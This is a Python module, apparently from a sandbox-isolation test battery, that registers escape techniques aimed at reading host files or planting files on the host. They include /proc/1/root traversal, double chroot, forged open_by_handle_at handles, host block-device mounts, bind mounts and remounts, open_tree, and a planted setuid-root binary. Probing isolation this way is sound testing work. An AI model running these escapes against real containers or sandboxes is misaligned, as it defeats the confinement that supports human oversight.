"""Ways to the host's files. Prize: the content of a file outside, or a file that is put there."""
import ctypes, os, subprocess, tempfile
from battery import call, checked, libc, read, targets, technique

MS_BIND, MS_REC, MS_REMOUNT = 4096, 16384, 32


def mount(source, target, kind, flags=0):
    checked(libc.mount(source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), None))


def folder():
    return tempfile.mkdtemp(dir="/tmp")


def device():
    path = folder() + "/device"
    os.mknod(path, 0o060600, os.makedev(*targets["device"]))
    return path


technique("path", "content of a host file")(lambda: read(targets["file"]))
technique("dots", "content of a host file")(lambda: read("../" * 20 + targets["file"].lstrip("/")))
technique("root-of-pid-1", "content of a host file")(lambda: read("/proc/1/root" + targets["file"]))
technique("cwd-of-pid-1", "content of a host file")(lambda: read("/proc/1/cwd/" + "../" * 20 + targets["file"].lstrip("/")))


@technique("symbolic-link", "content of a host file")
def symbolic_link():
    link = folder() + "/link"
    os.symlink(targets["file"], link)
    return read(link)


@technique("hard-link", "content of a host file")
def hard_link():
    link = os.path.join(os.path.dirname(targets["file"]), "another-name-" + str(os.getuid()))
    os.link(targets["file"], link)
    try:
        return read(link)
    finally:
        os.unlink(link)


@technique("double-chroot", "content of a host file")
def double_chroot():
    outside = os.open("/", os.O_RDONLY)
    os.chroot(folder())
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(targets["file"])


@technique("inherited-descriptors", "content of a host file")
def descriptors():
    for pid in ("self", "1"):
        for name in os.listdir(f"/proc/{pid}/fd"):
            try:
                descriptor = os.open(f"/proc/{pid}/fd/{name}/" + "../" * 20 + targets["file"].lstrip("/"), os.O_RDONLY)
                return os.read(descriptor, 200).decode()
            except OSError:
                pass
    return read(f"/proc/{os.getppid()}/root" + targets["file"])


@technique("file-handle", "content of a host file")
def file_handle():
    # The root of ext4 is inode 2; any file on the same file system leads there (open_by_handle_at(2)).
    for start in ("/etc/hosts", "/etc/resolv.conf", "/tmp", targets["workspace"], "/usr"):
        try:
            handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
            anchor = os.open(start, os.O_RDONLY)
            root = checked(libc.open_by_handle_at(anchor, handle, os.O_RDONLY))
            return os.read(os.open(targets["onDevice"].lstrip("/"), os.O_RDONLY, dir_fd=root), 200).decode()
        except OSError:
            pass


@technique("mount-of-the-hosts-device", "content of a host file")
def mount_device():
    place = folder()
    mount(device(), place, targets["fstype"])
    return read(place + targets["onDevice"])


@technique("raw-read-of-the-hosts-device", "its file system's head")
def raw_device():
    return read(device(), 2048).encode("latin1")[1080:1082] == b"\x53\xef" and "ext4"


@technique("bind-mount", "content of a host file")
def bind():
    for source in ("/proc/1/root", "/"):
        try:
            place = folder()
            mount(source, place, "none", MS_BIND | MS_REC)
            return read(place + targets["file"])
        except OSError:
            pass


@technique("remount-of-what-is-read-only", "a file written there")
def remount():
    for place in (targets["readOnly"], "/decoy", "/"):
        try:
            mount("none", place, "none", MS_REMOUNT | MS_BIND)
            open(place + "/planted-remount", "w").close()
            return place
        except OSError:
            pass


@technique("new-mount-interface", "a clone of the root of PID 1")
def open_tree():
    for source in ("/proc/1/root", "/"):
        try:
            tree = call(428, os.open(source, os.O_RDONLY | os.O_DIRECTORY), ctypes.c_char_p(b""), 0x1000 | 0x8000 | 1)
            break
        except OSError:
            pass
    return os.read(os.open(targets["file"].lstrip("/"), os.O_RDONLY, dir_fd=tree), 200).decode()


@technique("file-in-a-folder-of-the-host", "a file on the host")
def plant():
    open(targets["folder"] + "/planted-plainly", "w").close()


@technique("file-in-the-workspace", "a file on the host")
def plant_in_workspace():
    open(targets["workspace"] + "/planted-workspace", "w").close()


@technique("set-user-id-program", "a program that is root")
def set_user_id():
    path = targets["workspace"] + "/planted-program"
    subprocess.run(["cp", "/usr/bin/id", path], check=True)
    os.chmod(path, 0o4755)
    os.setresuid(65534, 65534, 65534)
    # Not the sandbox's own root but its runner, who is to stay who he is; what is on the host the test looks at.
    return subprocess.run([path, "-u"], capture_output=True, text=True).stdout.strip() == "0" and "root"
